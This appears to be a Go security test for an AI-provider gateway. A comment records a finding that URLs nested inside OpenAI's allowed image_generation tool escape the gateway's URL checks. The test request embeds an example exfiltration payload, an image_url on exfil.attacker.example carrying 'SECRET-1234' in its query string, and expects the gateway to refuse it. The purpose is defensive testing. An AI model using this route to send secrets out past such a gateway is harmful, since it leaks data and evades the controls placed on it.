package gateway

import "testing"

// FINDING (low): URL members are checked only "outside tools", and a tool
// of an allowed type is not read past its "type". OpenAI's
// image_generation tool (allowed: "runs without the network") takes an
// inpainting mask by image_url, input_image_mask: {image_url, file_id}
// (openai-python ToolImageGeneration.InputImageMask; the Azure AI
// Projects reference for ImageGenToolInputImageMask documents image_url
// as "The URL of the mask image"), the same image_url that input_image
// takes as "a fully qualified URL or base64 data URL". An https URL there
// would be fetched by OpenAI for the sandbox (query string = payload);
// the same URL anywhere in the input is refused. (OpenAI's own reference
// describes the mask as "Base64-encoded", hence low.)
func TestAttackProviderToolsURLInsideAllowedTool(t *testing.T) {
	e := newEnv(t, defaultPaths(nil))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	attackExpectRefused(t, e, tok, "openai", "/v1/responses",
		`{"model":"gpt-5.5","input":"edit the image","tools":[{"type":"image_generation","input_image_mask":{"image_url":"https://exfil.attacker.example/mask.png?d=SECRET-1234"}}]}`, nil)
}
